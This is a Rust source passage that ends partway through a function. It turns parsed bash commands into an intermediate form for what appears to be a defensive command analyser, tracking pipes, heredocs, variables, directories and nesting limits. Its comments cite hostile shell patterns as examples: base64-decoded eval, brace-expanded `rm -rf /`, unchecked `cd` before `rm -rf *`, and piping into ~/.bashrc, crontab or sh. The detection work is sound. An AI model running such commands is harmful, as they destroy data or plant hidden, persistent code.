//! AST -> IR. The only code that touches tree-sitter nodes.
//!
//! The lowering walks statements in source order with a small constant
//! environment (variables assigned literal values earlier in the same
//! script), resolves words, lowers substitutions into commands of their own
//! (recording where their output goes), connects pipelines, and hands every
//! simple command to the wrapper table (`unwrap`), which adds the commands a
//! wrapper runs. Recursion is bounded by [`MAX_NESTING`], the number of
//! commands by [`MAX_COMMANDS`] and of words by [`MAX_WORDS`]; hitting any is
//! recorded as an issue.

use std::collections::{HashMap, HashSet};
use std::rc::Rc;

use tree_sitter::Node;

use super::argv::normalize;
use super::paths::{classify, classify_prefix};
use super::programs;
use super::words::{self, FIELD_BREAK};
use super::{Assignment, Command, Env, Input, Issue, IssueKind, Origin, PathClass, Redirect, RedirectOp, Script, Span, Trick, Word, WrapperKind};
use crate::parse::{Parsed, kinds as k};

/// Deepest nesting of syntax, substitutions and wrappers analysed.
pub const MAX_NESTING: u32 = 48;
/// Most commands kept for one script.
pub const MAX_COMMANDS: usize = 2000;

/// Most words resolved in one script (arguments of every command, nested
/// scripts included); a command line past it is cut short (`TooMany`).
/// 20,000 words take about 50 ms to lower on the README's machine.
pub const MAX_WORDS: usize = 20_000;

/// Lowers a parsed command into the IR.
#[must_use]
pub fn lower(parsed: &Parsed, env: &Env) -> Script {
    let mut lw = Lowerer::new(env);
    let reparsed = reparse_heredocs(parsed);
    // A heredoc that runs to the end of the input is what bash runs (with a
    // warning): when closing it is all the text needed, the grammar's error
    // is no gap in the analysis.
    let bash_accepts = reparsed.as_ref().is_some_and(|(again, only_closed)| *only_closed && again.errors.is_empty());
    if !bash_accepts {
        for e in &parsed.errors {
            lw.issues.push(Issue { kind: IssueKind::Syntax, span: e.span, detail: e.what.to_string() });
        }
    }
    let reparsed = reparsed.map(|(again, _)| again);
    let read = reparsed.as_ref().unwrap_or(parsed);
    if let Some(again) = &reparsed {
        lw.extra_errors(&again.errors, parsed.source.len(), |span| span, "");
    }
    if let Some(tree) = &read.tree {
        lw.original = Rc::from(read.source.as_str());
        lw.frames.push(Frame { src: Rc::clone(&lw.original), base: 0, exact: true, outer: (0, parsed.source.len()), lines: None });
        lw.statements(tree.root_node(), &Ctx::default());
        lw.frames.pop();
    }
    lw.finish();
    Script { commands: lw.commands, issues: lw.issues, len: parsed.source.len() }
}

/// Where each line of a text not in the original came from: (offset of
/// the line in the text, span in the original), in order.
pub(super) type LineMap = Rc<[(usize, Span)]>;

pub(super) struct Frame {
    pub(super) src: Rc<str>,
    base: usize,
    exact: bool,
    outer: Span,
    /// For a text that is not a slice of the original (the commands an
    /// interpreter's code runs), where each line came from: (offset of the
    /// line in `src`, span in the original), in order.
    lines: Option<LineMap>,
}

/// A project file being lowered (`Command::project`).
#[derive(Clone, Debug)]
pub(super) struct Project {
    /// Workspace-relative name.
    pub(super) name: String,
    /// The index of the frame whose statements are the file's: its text is
    /// the file (a shell script) or the effects of the file's code (another
    /// language, with `effect_lines`). `None` when what runs is derived from
    /// the file (a make recipe, a manifest's script): no line is known.
    pub(super) frame: Option<usize>,
    /// The file's line of the statement being lowered.
    pub(super) line: Option<u32>,
    /// For code in another language: the offset in the frame's text of
    /// each effect line, with the file's line of the statement it came from.
    pub(super) effect_lines: Vec<(usize, Option<u32>)>,
    /// Where counting lines stopped: (offset, line).
    counted: (usize, u32),
}

impl Project {
    /// A project file whose lines are not known.
    pub(super) fn named(name: String, line: Option<u32>) -> Project {
        Project { name, frame: None, line, effect_lines: Vec::new(), counted: (0, 1) }
    }

    /// A project file whose statements are lowered in frame `frame`.
    pub(super) fn file(name: String, frame: Option<usize>) -> Project {
        Project { frame, ..Project::named(name, None) }
    }

    /// The line of the statement at byte `at` of `src`, the frame's text.
    fn line_at(&mut self, src: &str, at: usize) -> Option<u32> {
        if !self.effect_lines.is_empty() {
            let i = self.effect_lines.partition_point(|(start, _)| *start <= at);
            return i.checked_sub(1).and_then(|i| self.effect_lines[i].1);
        }
        // Statements come in order: count from the last one (from the start
        // again, if one comes before it).
        let (from, line) = if at >= self.counted.0 { self.counted } else { (0, 1) };
        let at = at.min(src.len());
        let more = src.get(from..at).map_or(0, |s| s.matches('\n').count());
        let line = line + u32::try_from(more).unwrap_or(u32::MAX - line);
        self.counted = (at, line);
        Some(line)
    }
}

/// Per-position context handed down the walk.
#[derive(Clone, Default)]
pub(super) struct Ctx {
    pub(super) depth: u32,
    pub(super) origin: Option<Origin>,
    pub(super) privileged: bool,
    pub(super) remote: Option<String>,
}

impl Ctx {
    pub(super) fn nested(&self, origin: Origin) -> Ctx {
        Ctx { depth: self.depth + 1, origin: Some(origin), ..self.clone() }
    }
}

/// The commands through which a statement's input enters and output leaves.
#[derive(Default, Debug)]
pub(super) struct Ends {
    pub(super) first: Vec<usize>,
    pub(super) last: Vec<usize>,
}

impl Ends {
    fn one(id: usize) -> Ends {
        Ends { first: vec![id], last: vec![id] }
    }
}

#[derive(Clone)]
pub(super) enum Var {
    Known(String),
    Unknown,
}

pub(super) struct Lowerer<'e> {
    pub(super) env: &'e Env,
    pub(super) commands: Vec<Command>,
    pub(super) issues: Vec<Issue>,
    vars: HashMap<String, Var>,
    /// Where a variable's value came from: commands substituted into it and
    /// spelling tricks, carried to every use (`x=$(… | base64 -d); eval "$x"`).
    var_origins: HashMap<String, (Vec<usize>, Vec<Trick>)>,
    pub(super) functions: HashSet<String>,
    pub(super) frames: Vec<Frame>,
    /// The text the outermost frame read: what spans point into.
    pub(super) original: Rc<str>,
    nesting: u32,
    limit_reported: bool,
    /// Words resolved so far, against [`MAX_WORDS`].
    words: usize,
    word_limit_reported: bool,
    /// The directory relative paths resolve against, after `cd`s: `None` is
    /// the workspace, `Some(None)` a directory known only at run time.
    pub(super) cwd: Option<Option<String>>,
    /// The word being resolved is not at the start of a shell word, or its
    /// tilde-prefix is not all literal: a `~` in it is not expanded.
    literal_tilde: bool,
    /// The directory before the last `cd` (for `cd -`).
    prev_cwd: Option<Option<String>>,
    /// After `cd dir;` (not `&&`), the directory the next commands run in
    /// if that `cd` failed: relative paths take the worse of both classes.
    cwd_unchecked: Option<String>,
    /// Files being run (`files.rs`), innermost last: a file that runs itself is read once.
    pub(super) running_files: Vec<String>,
    /// Commands looked at by the file table so far, against `files::SCAN_BUDGET`.
    pub(super) file_scans: usize,
    /// Project files read from disk being lowered, innermost last: every
    /// command lowered meanwhile is marked with the file and its line.
    pub(super) projects: Vec<Project>,
    /// Project files read from disk so far and their bytes (against `disk::MAX_FILES`, `disk::MAX_BYTES`).
    pub(super) disk_reads: (usize, usize),
    /// The file table's fold may read a copied file from disk (`files.rs`):
    /// set while it looks for a file that runs.
    pub(super) fold_reads_disk: bool,
    /// Writers whose written code was lowered (`track_written_code`), once each.
    tracked_writes: HashSet<usize>,
    /// Aliases defined so far, with the text they stand for.
    aliases: HashMap<String, String>,
    /// Functions defined so far, with the text of their body.
    bodies: HashMap<String, String>,
    /// Functions and aliases being expanded, innermost last (recursion stops there).
    expanding: Vec<String>,
    /// Calls expanded so far, against [`MAX_EXPANSIONS`].
    expansions: usize,
    /// `GIT_CONFIG_KEY_<n>` and `GIT_CONFIG_VALUE_<n>` seen so far, by `<n>`.
    git_config: HashMap<String, (Option<String>, Option<Word>)>,
}

/// Most function and alias calls expanded in one script; later calls are
/// judged by the definition alone, as the body was when defined.
pub const MAX_EXPANSIONS: usize = 64;

impl<'e> Lowerer<'e> {
    fn new(env: &'e Env) -> Self {
        Lowerer {
            env,
            commands: Vec::new(),
            issues: Vec::new(),
            vars: HashMap::new(),
            var_origins: HashMap::new(),
            functions: HashSet::new(),
            frames: Vec::new(),
            original: Rc::from(""),
            nesting: 0,
            limit_reported: false,
            words: 0,
            word_limit_reported: false,
            cwd: None,
            literal_tilde: false,
            prev_cwd: None,
            cwd_unchecked: None,
            running_files: Vec::new(),
            file_scans: 0,
            projects: Vec::new(),
            disk_reads: (0, 0),
            fold_reads_disk: false,
            tracked_writes: HashSet::new(),
            aliases: HashMap::new(),
            bodies: HashMap::new(),
            expanding: Vec::new(),
            expansions: 0,
            git_config: HashMap::new(),
        }
    }

    fn src(&self) -> Rc<str> {
        self.frames.last().map_or_else(|| Rc::from(""), |f| Rc::clone(&f.src))
    }

    fn text(&self, node: Node<'_>) -> String {
        let src = self.src();
        src.get(node.start_byte()..node.end_byte()).unwrap_or_default().to_string()
    }

    /// Maps a node's byte range in the current frame to the original text.
    pub(super) fn span(&self, node: Node<'_>) -> Span {
        self.map_span((node.start_byte(), node.end_byte()))
    }

    pub(super) fn map_span(&self, s: Span) -> Span {
        match self.frames.last() {
            // Clamped: a heredoc's closing line appended by `reparse_heredocs` is not in the original.
            Some(f) if f.exact => ((f.base + s.0).min(f.outer.1), (f.base + s.1).min(f.outer.1)),
            Some(Frame { lines: Some(lines), outer, .. }) => lines.iter().rev().find(|(start, _)| *start <= s.0).map_or(*outer, |(_, span)| *span),
            Some(f) => f.outer,
            None => s,
        }
    }

    /// Records the errors of a text rewritten by [`reparse_heredocs`] that the
    /// original parse did not have (spans clamped to the original's `len`).
    fn extra_errors(&mut self, errors: &[crate::parse::SyntaxError], len: usize, at: impl Fn(Span) -> Span, suffix: &str) {
        for e in errors {
            let span = at((e.span.0.min(len), e.span.1.min(len)));
            if !self.issues.iter().any(|i| i.kind == IssueKind::Syntax && i.span == span) {
                self.issues.push(Issue { kind: IssueKind::Syntax, span, detail: format!("{}{suffix}", e.what) });
            }
        }
    }

    fn too_deep(&mut self, span: Span, depth: u32) -> bool {
        if depth > MAX_NESTING || self.nesting > MAX_NESTING * 4 {
            if !self.issues.iter().any(|i| i.kind == IssueKind::TooDeep) {
                self.issues.push(Issue { kind: IssueKind::TooDeep, span, detail: "nesting limit reached".into() });
            }
            return true;
        }
        false
    }

    pub(super) fn full(&mut self, span: Span) -> bool {
        if self.commands.len() >= MAX_COMMANDS {
            if !self.limit_reported {
                self.limit_reported = true;
                self.issues.push(Issue { kind: IssueKind::TooMany, span, detail: "command limit reached".into() });
            }
            return true;
        }
        false
    }

    /// Parses `text` as shell code and lowers it in place. `base` is the
    /// absolute offset of `text` in the original command when it is a
    /// verbatim slice of it (so spans stay exact); otherwise every span is `outer`.
    pub(super) fn nested_script(&mut self, text: &str, base: Option<usize>, outer: Span, ctx: &Ctx) -> Ends {
        self.nested_script_mapped(text, base, None, outer, ctx)
    }

    /// [`Lowerer::nested_script`] of a text whose lines came from the
    /// places `lines` gives (`Frame::lines`).
    pub(super) fn nested_script_mapped(&mut self, text: &str, base: Option<usize>, lines: Option<LineMap>, outer: Span, ctx: &Ctx) -> Ends {
        if self.too_deep(outer, ctx.depth) || self.full(outer) {
            return Ends::default();
        }
        let parsed = crate::parse::parse(text);
        let (abs_base, exact) = match (base, self.frames.last()) {
            (Some(b), Some(f)) if f.exact => (b, true),
            _ => (0, false),
        };
        let at = |s: Span| if exact { (abs_base + s.0, abs_base + s.1) } else { outer };
        let reparsed = reparse_heredocs(&parsed);
        let bash_accepts = reparsed.as_ref().is_some_and(|(again, only_closed)| *only_closed && again.errors.is_empty());
        if !bash_accepts {
            for e in &parsed.errors {
                self.issues.push(Issue { kind: IssueKind::Syntax, span: at(e.span), detail: format!("{} in nested script", e.what) });
            }
        }
        let reparsed = reparsed.map(|(again, _)| again);
        if let Some(again) = &reparsed {
            self.extra_errors(&again.errors, parsed.source.len(), at, " in nested script");
        }
        let parsed = reparsed.unwrap_or(parsed);
        let Some(tree) = &parsed.tree else { return Ends::default() };
        self.frames.push(Frame { src: Rc::from(parsed.source.as_str()), base: abs_base, exact, outer, lines: lines.filter(|_| !exact) });
        let ends = self.statements(tree.root_node(), ctx);
        self.frames.pop();
        ends
    }

    /// Lowers every statement child of `node` in order.
    fn statements(&mut self, node: Node<'_>, ctx: &Ctx) -> Ends {
        let mut ends = Ends::default();
        let mut cursor = node.walk();
        let children: Vec<Node<'_>> = node.children(&mut cursor).collect();
        for (i, child) in children.iter().enumerate() {
            if self.limit_reported || self.word_limit_reported {
                // Past a limit nothing more is recorded; walking on only costs time.
                break;
            }
            if !child.is_named() {
                if child.kind() == "&" && i > 0 {
                    self.mark_background(children[i - 1]);
                }
                continue;
            }
            // Every statement of a list reads the list's input and writes its
            // output: `{ a; b; } | c` pipes both into `c`.
            let before = self.commands.len();
            let e = self.statement(*child, ctx);
            // `cd dir; rm -rf *`: when the `cd` is not checked with `&&`, the
            // next command may run in the old directory if it fails.
            let next_op = children.get(i + 1).filter(|n| !n.is_named()).map(|n| n.kind());
            let was_cd = self.commands.get(before..).is_some_and(|added| added.len() == 1 && matches!(added[0].name.as_str(), "cd" | "pushd"));
            if was_cd && next_op != Some("&&") && i + 1 < children.len() && matches!(self.cwd, Some(Some(_))) {
                self.cwd_unchecked = Some(self.prev_cwd.clone().flatten().unwrap_or_else(|| self.env.workspace.clone()));
            } else if was_cd {
                self.cwd_unchecked = None;
            }
            ends.first.extend(e.first);
            ends.last.extend(e.last);
        }
        ends
    }

    /// At a statement of the innermost project file's own frame: its line.
    fn note_project_line(&mut self, at: usize) {
        let depth = self.frames.len().checked_sub(1);
        let Some(p) = self.projects.last_mut().filter(|p| p.frame.is_some() && p.frame == depth) else { return };
        let Some(frame) = self.frames.last() else { return };
        p.line = p.line_at(&frame.src, at);
    }

    fn mark_background(&mut self, node: Node<'_>) {
        let span = self.span(node);
        for c in &mut self.commands {
            if c.span.0 >= span.0 && c.span.1 <= span.1 {
                c.background = true;
            }
        }
    }

    fn statement(&mut self, node: Node<'_>, ctx: &Ctx) -> Ends {
        self.note_project_line(node.start_byte());
        let span = self.span(node);
        if self.too_deep(span, ctx.depth) {
            return Ends::default();
        }
        self.nesting += 1;
        let ends = self.statement_inner(node, ctx);
        self.nesting -= 1;
        ends
    }

    fn statement_inner(&mut self, node: Node<'_>, ctx: &Ctx) -> Ends {
        match node.kind() {
            k::COMMAND => self.simple_command(node, ctx),
            k::PIPELINE => self.pipeline(node, ctx),
            k::LIST | k::PROGRAM | k::COMPOUND_STATEMENT | "do_group" | "else_clause" | "elif_clause" => self.statements(node, ctx),
            k::SUBSHELL => {
                let saved = (self.vars.clone(), self.cwd.clone());
                let e = self.statements(node, ctx);
                (self.vars, self.cwd) = saved;
                e
            }
            k::REDIRECTED_STATEMENT => self.redirected(node, ctx),
            "ERROR" => match brace_command(&self.text(node)) {
                // `{rm,-rf,/}` is a command to bash (brace expansion makes the
                // words) but not to the grammar; the syntax error stays an issue.
                Some(expanded) => {
                    let span = self.span(node);
                    self.nested_script(&expanded, None, span, ctx)
                }
                None => self.generic(node, ctx),
            },
            k::VARIABLE_ASSIGNMENT => {
                let span = self.span(node);
                let a: Vec<Assignment> = self.assignment(node, ctx, true).into_iter().collect();
                self.assignment_command(a, span, ctx)
            }
            k::VARIABLE_ASSIGNMENTS => {
                let span = self.span(node);
                let mut cursor = node.walk();
                let kids: Vec<_> = node.named_children(&mut cursor).collect();
                let mut all = Vec::new();
                for a in kids {
                    all.extend(self.assignment(a, ctx, true));
                }
                self.assignment_command(all, span, ctx)
            }
            k::FUNCTION_DEFINITION => {
                let name = node.child_by_field_name("name").map(|n| self.text(n)).unwrap_or_default();
                self.functions.insert(name.clone());
                self.aliases.remove(&name);
                if let Some(body) = node.child_by_field_name("body") {
                    let text = self.text(body);
                    self.bodies.insert(name.clone(), text);
                    let inner = ctx.nested(Origin::Definition { name });
                    let saved = (self.vars.clone(), self.cwd.clone());
                    self.statement(body, &inner);
                    (self.vars, self.cwd) = saved;
                }
                Ends::default()
            }
            k::IF_STATEMENT | k::CASE_STATEMENT | k::WHILE_STATEMENT | k::C_STYLE_FOR_STATEMENT | "until_statement" => {
                // A loop body may run many times and a branch maybe not at
                // all: variables assigned inside are unknown (in loops,
                // already inside the body), and so is the directory.
                let looping = node.kind() != k::IF_STATEMENT && node.kind() != k::CASE_STATEMENT;
                let assigned = assigned_names(node, &self.src());
                if looping {
                    for n in &assigned {
                        self.vars.insert(n.clone(), Var::Unknown);
                    }
                }
                let cwd_before = self.cwd.clone();
                let e = if node.kind() == k::C_STYLE_FOR_STATEMENT { self.c_style_for(node, ctx) } else { self.generic(node, ctx) };
                for n in assigned {
                    self.vars.insert(n, Var::Unknown);
                }
                if self.cwd != cwd_before {
                    self.cwd = Some(None);
                }
                e
            }
            k::DECLARATION_COMMAND | k::UNSET_COMMAND => self.declaration(node, ctx),
            k::COMMENT | k::HEREDOC_BODY => Ends::default(),
            k::FOR_STATEMENT => {
                let var = node.child_by_field_name("variable").map(|n| self.text(n));
                let mut cursor = node.walk();
                let values: Vec<_> = node.children_by_field_name("value", &mut cursor).collect();
                let mut resolved = Vec::new();
                for v in values {
                    resolved.push(self.word(v, ctx, false));
                }
                if let Some(var) = var {
                    let val = match resolved.as_slice() {
                        [one] if !one.dynamic && !one.glob => Var::Known(one.text.clone()),
                        _ => Var::Unknown,
                    };
                    self.vars.insert(var, val);
                }
                let assigned = assigned_names(node, &self.src());
                let cwd_before = self.cwd.clone();
                let e = match node.child_by_field_name("body") {
                    Some(body) => self.statement(body, ctx),
                    None => Ends::default(),
                };
                for n in assigned {
                    self.vars.insert(n, Var::Unknown);
                }
                if self.cwd != cwd_before {
                    self.cwd = Some(None);
                }
                e
            }
            _ => self.generic(node, ctx),
        }
    }

    /// Any other node: lower statement children and substitutions inside it.
    fn generic(&mut self, node: Node<'_>, ctx: &Ctx) -> Ends {
        if self.nesting > MAX_NESTING * 4 {
            let span = self.span(node);
            self.too_deep(span, u32::MAX);
            return Ends::default();
        }
        self.nesting += 1;
        let ends = self.generic_inner(node, ctx);
        self.nesting -= 1;
        ends
    }

    fn generic_inner(&mut self, node: Node<'_>, ctx: &Ctx) -> Ends {
        let mut ends = Ends::default();
        let mut cursor = node.walk();
        let kids: Vec<_> = node.named_children(&mut cursor).collect();
        for child in kids {
            let e = self.generic_child(child, ctx);
            ends.first.extend(e.first);
            ends.last.extend(e.last);
        }
        ends
    }

    /// One child of [`Lowerer::generic`]: a word is resolved (its
    /// substitutions lowered), anything else lowered as a statement.
    fn generic_child(&mut self, child: Node<'_>, ctx: &Ctx) -> Ends {
        match child.kind() {
            k::COMMAND_SUBSTITUTION
            | k::PROCESS_SUBSTITUTION
            | k::STRING
            | k::CONCATENATION
            | k::EXPANSION
            | k::SIMPLE_EXPANSION
            | k::WORD
            | k::RAW_STRING
            | k::NUMBER
            | "binary_expression"
            | "unary_expression"
            | "parenthesized_expression"
            | "test_operator"
            | "regex"
            | "extglob_pattern"
            | k::ARITHMETIC_EXPANSION => {
                self.word(child, ctx, false);
                Ends::default()
            }
            _ => self.statement(child, ctx),
        }
    }

    /// `for ((init; cond; update)); do body; done`: the clauses are lowered
    /// as any other node, but the body sees the variables the initializer and
    /// the update clause set as unknown (IRT-10: `i` is not the initial `0`).
    fn c_style_for(&mut self, node: Node<'_>, ctx: &Ctx) -> Ends {
        let src = self.src();
        let mut loop_vars = assigned_names(node, &src);
        for field in ["initializer", "update"] {
            let mut cursor = node.walk();
            for clause in node.children_by_field_name(field, &mut cursor) {
                loop_vars.extend(identifiers(clause, &src));
            }
        }
        let body = node.child_by_field_name("body").map(|b| b.id());
        let mut ends = Ends::default();
        let mut cursor = node.walk();
        let kids: Vec<_> = node.named_children(&mut cursor).collect();
        for child in kids {
            if Some(child.id()) == body {
                for n in &loop_vars {
                    self.vars.insert(n.clone(), Var::Unknown);
                }
            }
            let e = self.generic_child(child, ctx);
            ends.first.extend(e.first);
            ends.last.extend(e.last);
        }
        ends
    }

    fn pipeline(&mut self, node: Node<'_>, ctx: &Ctx) -> Ends {
        let mut cursor = node.walk();
        let kids: Vec<_> = node.named_children(&mut cursor).collect();
        let mut ends = Ends::default();
        let mut prev: Option<Ends> = None;
        for child in kids {
            let e = self.statement(child, ctx);
            if let Some(p) = &prev {
                for &from in &p.last {
                    for &to in &e.first {
                        self.connect(from, to);
                    }
                }
                // `… | tee -a ~/.bashrc`, `… | crontab -`: what they read is now known.
                for &to in &e.first {
                    self.track_written_code(to, ctx);
                }
            }
            if ends.first.is_empty() {
                ends.first.clone_from(&e.first);
            }
            ends.last.clone_from(&e.last);
            prev = Some(e);
        }
        ends
    }

    /// Pipes `from`'s output into `to` and into what `to` wraps.
    pub(super) fn connect(&mut self, from: usize, to: usize) {
        if from == to || from >= self.commands.len() || to >= self.commands.len() {
            return;
        }
        self.commands[from].pipes_to = Some(to);
        let mut stack = vec![to];
        let mut guard = 0;
        while let Some(t) = stack.pop() {
            guard += 1;
            if guard > 256 {
                break;
            }
            let cmd = &mut self.commands[t];
            if cmd.stdin.is_none() {
                cmd.stdin = Some(Input::Pipe { from });
            }
            if let Some(w) = &cmd.wraps {
                if w.kind.passes_stdin() {
                    stack.extend(w.inner.iter().copied());
                }
            }
        }
    }

    fn redirected(&mut self, node: Node<'_>, ctx: &Ctx) -> Ends {
        let start = self.commands.len();
        let ends = match node.child_by_field_name("body") {
            Some(body) => self.statement(body, ctx),
            // `> file` alone truncates the file, as `: > file` does.
            None => {
                let span = self.span(node);
                let program = Word::literal(":", (span.0, span.0), PathClass::Workspace);
                self.build(program, Vec::new(), Vec::new(), span, ctx).map(Ends::one).unwrap_or_default()
            }
        };
        let mut cursor = node.walk();
        let kids: Vec<_> = node.children_by_field_name("redirect", &mut cursor).collect();
        let mut cursor2 = node.walk();
        let extra: Vec<_> = node.named_children(&mut cursor2).filter(|n| n.kind() == k::HERESTRING_REDIRECT).collect();
        let mut seen = HashSet::new();
        for r in kids.into_iter().chain(extra) {
            if !seen.insert(r.id()) {
                continue;
            }
            self.apply_redirect(r, &ends, start, ctx);
        }
        for id in ends.last.clone() {
            self.track_written_code(id, ctx);
        }
        ends
    }

    fn apply_redirect(&mut self, r: Node<'_>, ends: &Ends, start: usize, ctx: &Ctx) {
        match r.kind() {
            k::FILE_REDIRECT => {
                if let Some(red) = self.file_redirect(r, ctx) {
                    let targets: Vec<usize> = if red.op == RedirectOp::Read { ends.first.clone() } else { ends.last.clone() };
                    let targets = if targets.is_empty() { (start..self.commands.len()).collect() } else { targets };
                    for id in targets {
                        if red.op == RedirectOp::Read && self.commands[id].stdin.is_none() {
                            self.commands[id].stdin = Some(Input::File { path: red.target.clone() });
                        }
                        self.commands[id].redirects.push(red.clone());
                    }
                }
            }
            k::HEREDOC_REDIRECT => self.heredoc(r, ends, ctx),
            k::HERESTRING_REDIRECT => {
                let mut cursor = r.walk();
                let value = r.named_children(&mut cursor).last();
                if let Some(v) = value {
                    let mut w = self.word(v, ctx, false);
                    w.text = w.text.replace(FIELD_BREAK, " ");
                    for &id in &ends.first {
                        self.set_stdin(id, Input::HereString { word: w.clone() });
                    }
                }
            }
            _ => {}
        }
    }

    fn set_stdin(&mut self, id: usize, input: Input) {
        let mut stack = vec![id];
        while let Some(t) = stack.pop() {
            let cmd = &mut self.commands[t];
            cmd.stdin = Some(input.clone());
            if let Some(w) = &cmd.wraps {
                if w.kind.passes_stdin() {
                    stack.extend(w.inner.iter().copied());
                }
            }
        }
    }

    fn file_redirect(&mut self, r: Node<'_>, ctx: &Ctx) -> Option<Redirect> {
        let span = self.span(r);
        let fd = r.child_by_field_name("descriptor").and_then(|d| self.text(d).parse().ok());
        let mut op = RedirectOp::Write;
        let mut cursor = r.walk();
        for c in r.children(&mut cursor) {
            if !c.is_named() {
                op = match c.kind() {
                    "<" => RedirectOp::Read,
                    ">>" | "&>>" => RedirectOp::Append,
                    "<>" => RedirectOp::ReadWrite,
                    ">&" | "<&" | ">&-" | "<&-" => RedirectOp::Dup,
                    _ => RedirectOp::Write,
                };
                break;
            }
        }
        let mut cursor = r.walk();
        let dest: Vec<_> = r.children_by_field_name("destination", &mut cursor).collect();
        let target_node = dest.first().copied()?;
        let target = self.word(target_node, ctx, false);
        if op == RedirectOp::Dup && target.text.bytes().all(|b| b.is_ascii_digit() || b == b'-') {
            return None;
        }
        Some(Redirect { fd, op, target, span })
    }

    fn heredoc(&mut self, r: Node<'_>, ends: &Ends, ctx: &Ctx) {
        let mut quoted = false;
        let mut strip_tabs = false;
        let mut body = String::new();
        let mut body_span = self.span(r);
        let mut sources = Vec::new();
        let mut cursor = r.walk();
        let kids: Vec<_> = r.children(&mut cursor).collect();
        for c in &kids {
            match c.kind() {
                "<<-" => strip_tabs = true,
                k::HEREDOC_START => {
                    let t = self.text(*c);
                    quoted = t.contains(['\'', '"', '\\']);
                }
                k::HEREDOC_BODY => {
                    body_span = self.span(*c);
                    let (text, srcs) = self.heredoc_text(*c, quoted, ctx);
                    body = text;
                    sources = srcs;
                }
                _ => {}
            }
        }
        if !kids.iter().any(|c| c.kind() == k::HEREDOC_BODY) {
            // Unterminated: bash reads the rest of the input as the body.
            let src = self.src();
            let end = r.end_byte();
            if let Some(nl) = src.get(end..).and_then(|rest| rest.find('\n')) {
                body = src[end + nl + 1..].to_string();
            }
        }
        if strip_tabs {
            body = body.lines().map(|l| l.trim_start_matches('\t')).collect::<Vec<_>>().join("\n");
        }
        let input = Input::Heredoc { body, span: body_span, sources };
        for &id in &ends.first {
            self.set_stdin(id, input.clone());
        }
        // `cat <<EOF | sh` and `cmd <<EOF > out`: the rest of the line hangs
        // off the heredoc redirect; only `|` and `|&` make it a pipe.
        let mut piped = false;
        for c in kids {
            if !c.is_named() {
                piped = matches!(c.kind(), "|" | "|&");
                continue;
            }
            // The grammar puts the `|` inside the pipeline node that follows the heredoc.
            let leads_with_pipe = c.kind() == k::PIPELINE && c.child(0).is_some_and(|f| !f.is_named() && matches!(f.kind(), "|" | "|&"));
            match c.kind() {
                k::PIPELINE if leads_with_pipe && c.named_child_count() == 1 && c.named_child(0).is_some_and(|n| n.kind() == k::LIST) => {
                    // `cat <<EOF | sh && echo ok`: only the list's first part is piped.
                    let Some(list) = c.named_child(0) else { continue };
                    let mut cursor = list.walk();
                    let parts: Vec<_> = list.named_children(&mut cursor).collect();
                    for (i, part) in parts.into_iter().enumerate() {
                        let e = self.statement(part, ctx);
                        if i == 0 {
                            for &from in &ends.last {
                                for &to in &e.first {
                                    self.connect(from, to);
                                }
                            }
                        }
                    }
                }
                k::PIPELINE | k::COMMAND if piped || leads_with_pipe => {
                    let e = self.statement(c, ctx);
                    for &from in &ends.last {
                        for &to in &e.first {
                            self.connect(from, to);
                        }
                    }
                }
                k::PIPELINE | k::COMMAND => {
                    self.statement(c, ctx);
                }
                k::FILE_REDIRECT => {
                    if let Some(red) = self.file_redirect(c, ctx) {
                        for &id in &ends.last {
                            self.commands[id].redirects.push(red.clone());
                        }
                    }
                }
                k::LIST | k::REDIRECTED_STATEMENT | k::SUBSHELL | k::COMPOUND_STATEMENT => {
                    self.statement(c, ctx);
                }
                _ => {}
            }
        }
    }

    fn heredoc_text(&mut self, body: Node<'_>, quoted: bool, ctx: &Ctx) -> (String, Vec<usize>) {
        let raw = self.text(body);
        if quoted {
            return (raw, Vec::new());
        }
        let mut out = String::new();
        let mut sources = Vec::new();
        let base = body.start_byte();
        let mut pos = base;
        let mut cursor = body.walk();
        let kids: Vec<_> = body.named_children(&mut cursor).collect();
        for c in kids {
            if c.kind() == "heredoc_content" {
                continue;
            }
            if c.start_byte() > pos {
                out.push_str(raw.get(pos - base..c.start_byte() - base).unwrap_or_default());
            }
            let w = self.word(c, ctx, true);
            sources.extend(w.sources.iter().copied());
            out.push_str(&w.text);
            pos = c.end_byte();
        }
        out.push_str(raw.get(pos.saturating_sub(base)..).unwrap_or_default());
        (words::unescape_double(&out), sources)
    }

    fn assignment(&mut self, node: Node<'_>, ctx: &Ctx, sets_var: bool) -> Option<Assignment> {
        let name = node.child_by_field_name("name").map(|n| self.text(n))?;
        let mut value = match node.child_by_field_name("value") {
            Some(v) => self.word(v, ctx, true),
            None => Word::literal("", self.span(node), PathClass::Dynamic),
        };
        if value.raw == "~" || value.raw.starts_with("~/") {
            value.text = format!("{}{}", self.env.home, &value.raw[1..]);
            value.path = classify(&value.text, self.env);
        }
        let mut cursor = node.walk();
        let append = node.children(&mut cursor).any(|c| !c.is_named() && c.kind() == "+=");
        if append {
            match self.vars.get(&name) {
                Some(Var::Known(old)) => value.text = format!("{old}{}", value.text),
                Some(Var::Unknown) => value.dynamic = true,
                None => {}
            }
        }
        if sets_var {
            let var = if value.dynamic { Var::Unknown } else { Var::Known(value.text.clone()) };
            self.vars.insert(name.clone(), var);
            self.var_origins.insert(name.clone(), (value.sources.clone(), value.tricks.clone()));
        }
        self.environment_code(&name, &value, ctx);
        Some(Assignment { name, value })
    }

    fn declaration(&mut self, node: Node<'_>, ctx: &Ctx) -> Ends {
        let span = self.span(node);
        let mut cursor = node.walk();
        let kids: Vec<_> = node.children(&mut cursor).collect();
        let mut program = None;
        let mut args = Vec::new();
        for c in kids {
            if !c.is_named() {
                if program.is_none() {
                    let t = self.text(c);
                    program = Some(Word::literal(&t, self.span(c), PathClass::Workspace));
                }
                continue;
            }
            if c.kind() == k::VARIABLE_ASSIGNMENT {
                if let Some(a) = self.assignment(c, ctx, true) {
                    let mut w = a.value.clone();
                    w.text = format!("{}={}", a.name, a.value.text);
                    w.span = self.span(c);
                    args.push(w);
                }
            } else {
                args.push(self.word(c, ctx, false));
            }
        }
        let Some(program) = program else { return Ends::default() };
        match self.build(program, args, Vec::new(), span, ctx) {
            Some(id) => Ends::one(id),
            None => Ends::default(),
        }
    }

    fn simple_command(&mut self, node: Node<'_>, ctx: &Ctx) -> Ends {
        let span = self.span(node);
        let mut env_assign = Vec::new();
        let mut program = None;
        let mut args = Vec::new();
        let mut redirects = Vec::new();
        let mut prev_end: Option<usize> = None;
        let mut cursor = node.walk();
        let kids: Vec<_> = node.named_children(&mut cursor).collect();
        for c in kids {
            if self.words >= MAX_WORDS {
                // What follows is not looked at; the issue makes the verdict ask.
                if !self.word_limit_reported {
                    self.word_limit_reported = true;
